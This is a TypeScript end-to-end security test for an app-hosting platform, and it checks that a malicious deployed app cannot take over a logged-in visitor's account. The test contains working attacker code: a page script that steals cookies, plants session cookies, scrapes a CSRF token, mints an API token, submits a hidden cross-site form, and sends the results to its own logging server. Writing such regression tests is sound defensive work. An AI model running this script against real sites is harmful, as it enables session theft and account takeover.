/// <reference lib="dom" />
import { test } from '@japa/runner'
import db from '@adonisjs/lucid/services/db'
import env from '#start/env'
import deploy from '#deploy/deploy_manager'
import { apiAccount } from '#tests/helpers/ai'
import { waitForDeployment } from '#tests/helpers/deploys'
import { truncateAll } from '#tests/helpers/services'
import { appNameOf } from '#tests/helpers/echo_app'

const port = Number(env.get('PORT'))
const platforms = [`http://localhost:${port}`, `http://127.0.0.1:${port}`]

/**
 * Issue 10 item 1, end to end: Mallory deploys an app whose page tries to
 * take over the account of whoever opens it — read /settings/tokens (with
 * the visitor's cookies), post the token form with the CSRF token it found,
 * read the new API token and send it home; as a fallback, post the form
 * without a token from a hidden frame, and read document.cookie. Its server
 * keeps every Cookie header it receives.
 */
function attackerApp() {
  const attack = `(async () => {
  const report = (k, v) => fetch('report?k=' + encodeURIComponent(k) + '&v=' + encodeURIComponent(String(v).slice(0, 300)), { mode: 'no-cors' })
  try { await report('cookie', document.cookie) } catch (e) { await report('cookie-error', e.name) }
  // Cookie tossing: plant a session for the platform's host from the app's page.
  for (const domain of ['', '; domain=localhost', '; domain=127.0.0.1']) {
    try { document.cookie = 'xbasis-session=planted; path=/' + domain; document.cookie = 'remember_web=planted; path=/' + domain } catch (e) {}
  }
  for (const base of ['', ...${JSON.stringify(platforms)}]) {
    const url = base + '/settings/tokens'
    try {
      const page = await (await fetch(url, { credentials: 'include' })).text()
      const csrf = (page.match(/name=["']_csrf["'] value=["']([^"']+)["']/) || [])[1]
      await report('read ' + url, csrf ? 'csrf ' + csrf : 'no csrf: ' + page.slice(0, 80))
      if (csrf) {
        const body = new URLSearchParams({ _csrf: csrf, name: 'stolen-by-fetch', expires_in_days: '30' })
        const answer = await (await fetch(url, { method: 'POST', body, credentials: 'include' })).text()
        const token = (answer.match(/value="(xb_[^"]+)"/) || [])[1]
        await report('token', token || 'none')
      }
    } catch (e) {
      await report('read-error ' + url, e.name)
    }
  }
  // The form post, as a page would do it (cookies of a top-level POST, no CSRF token).
  const sink = document.createElement('iframe')
  sink.name = 'sink'
  document.body.append(sink)
  for (const base of ${JSON.stringify(platforms)}) {
    const form = document.createElement('form')
    form.method = 'POST'
    form.action = base + '/settings/tokens'
    form.target = 'sink'
    for (const [name, value] of [['name', 'stolen-by-form'], ['expires_in_days', '30']]) {
      const input = document.createElement('input')
      input.name = name
      input.value = value
      form.append(input)
    }
    document.body.append(form)
    form.submit()
    await new Promise((r) => setTimeout(r, 700))
    try { await report('sink ' + base, sink.contentDocument ? sink.contentDocument.body.innerText.slice(0, 80) : 'unreadable') } catch (e) { await report('sink ' + base, e.name) }
  }
  await report('done', 1)
})()`
  const server = `const http = require('node:http')
const reports = []
const cookies = []
const attack = ${JSON.stringify(attack)}
http.createServer((req, res) => {
  const url = new URL(req.url, 'http://app')
  if (req.headers.cookie) cookies.push(req.headers.cookie)
  if (url.pathname === '/health') return res.end('ok')
  if (url.pathname === '/report') { reports.push([url.searchParams.get('k'), url.searchParams.get('v')]); return res.end() }
  if (url.pathname === '/reset') { reports.length = 0; cookies.length = 0; return res.end() }
  if (url.pathname === '/loot') { res.setHeader('content-type', 'application/json'); return res.end(JSON.stringify({ reports, cookies })) }
  if (url.pathname === '/attack.js') { res.setHeader('content-type', 'text/javascript'); return res.end(attack) }
  res.setHeader('content-type', 'text/html; charset=utf-8')
  res.end('<!doctype html><title>Free stuff</title><h1>Free stuff</h1><script src="attack.js"></script>')
}).listen(Number(process.env.PORT), process.env.HOST)
`
  return {
    'package.json': JSON.stringify({ name: 'attacker', version: '1.0.0', private: true, scripts: { start: 'node server.js' } }),
    'server.js': server,
  }
}

test.group('A deployed app cannot take over the account of a visitor', (group) => {
  group.each.setup(() => truncateAll())
  group.teardown(async () => {
    const driver = await deploy.use('process')
    for (const row of await db.from('deployments').whereNotNull('handle')) {
      await driver.destroy(typeof row.handle === 'string' ? JSON.parse(row.handle) : row.handle).catch(() => {})
    }
  })

  test('opened by a logged-in visitor, on its own host and on its path URL, the page gets no token and no platform cookie', async ({ browserContext, assert }) => {
    const mallory = await apiAccount('Mallory')
    for (const [path, content] of Object.entries(attackerApp())) {
      await mallory.json('PUT', `/api/v1/projects/${mallory.project.id}/files/${path}`, { content })
    }
    const created = await mallory.json('POST', `/api/v1/projects/${mallory.project.id}/deployments`, { environment: 'production' })
    const deployment = await waitForDeployment(mallory, created.body.deployment.id)
    assert.equal(deployment.status, 'live', deployment.reason)
    const name = appNameOf(deployment.url)

    // The victim logs in on both addresses of the platform (remember me on: every platform cookie is in the jar).
    const victim = await apiAccount('Victim')
    const email = (await db.from('users').where('id', victim.user.id).first()).email
    const page = await browserContext.newPage()
    for (const platform of platforms) {
      await page.goto(platform + '/login')
      await page.fill('#email', email)
      await page.fill('#password', 'chat password 1')
      await page.locator('input[name="remember"]').check().catch(() => {})
      await page.getByRole('button', { name: 'Log in' }).click()
      await page.waitForURL('**/dashboard')
    }
    const jar = await browserContext.cookies()
    const platformCookies = jar.filter((c) => c.domain === 'localhost' || c.domain === '127.0.0.1')
    assert.isTrue(platformCookies.some((c) => c.name === 'xbasis-session'), 'the visitor is signed in')

    const opened = [deployment.url + '/', `http://localhost:${port}/apps/${name}/`, `http://127.0.0.1:${port}/apps/${name}/`]
    for (const url of opened) {
      await fetch(`http://127.0.0.1:${port}/apps/${name}/reset`)
      await page.goto(url)
      await page.waitForSelector('h1')
      const loot = async () => (await (await fetch(`http://127.0.0.1:${port}/apps/${name}/loot`)).json()) as { reports: [string, string][]; cookies: string[] }
      let result = await loot()
      for (let i = 0; i < 100 && !result.reports.some(([k]) => k === 'done'); i++) {
        await page.waitForTimeout(100)
        result = await loot()
      }
      assert.isTrue(result.reports.some(([k]) => k === 'done'), `the attack ran to its end at ${url}: ${JSON.stringify(result.reports)}`)
      for (const [key, value] of result.reports) {
        assert.notMatch(value, /^csrf /, `${url}: ${key} read the platform's page`)
        assert.notEqual(key, 'token', `${url}: got a token`)
        assert.notInclude(value, 'xbasis-session', `${url}: ${key}`)
        if (key.startsWith('sink')) assert.notInclude(value, 'xb_', `${url}: ${key}`)
      }
      // The app's server never received a platform cookie, by name or by value.
      for (const header of result.cookies) {
        for (const cookie of platformCookies) {
          assert.notInclude(header, cookie.value, `${url}: the app received ${cookie.name}`)
          assert.notMatch(header, new RegExp(`(^|;\\s*)${cookie.name}=`), `${url}: the app received ${cookie.name}`)
        }
      }
    }

    // No cookie was planted for the platform's hosts, and no token was made for the victim; the visitor is still signed in.
    const after = (await browserContext.cookies()).filter((c) => c.domain.replace(/^\./, '') === 'localhost' || c.domain.replace(/^\./, '') === '127.0.0.1')
    assert.deepEqual(after.filter((c) => c.value === 'planted'), [])
    const tokens = await db.from('auth_access_tokens').where('tokenable_id', victim.user.id).select('name')
    assert.deepEqual(tokens.map((t) => t.name).filter((n) => String(n).startsWith('stolen')), [])
    await page.goto(platforms[0] + '/settings/tokens')
    assert.equal(new URL(page.url()).pathname, '/settings/tokens')
  }).timeout(120_000)
})
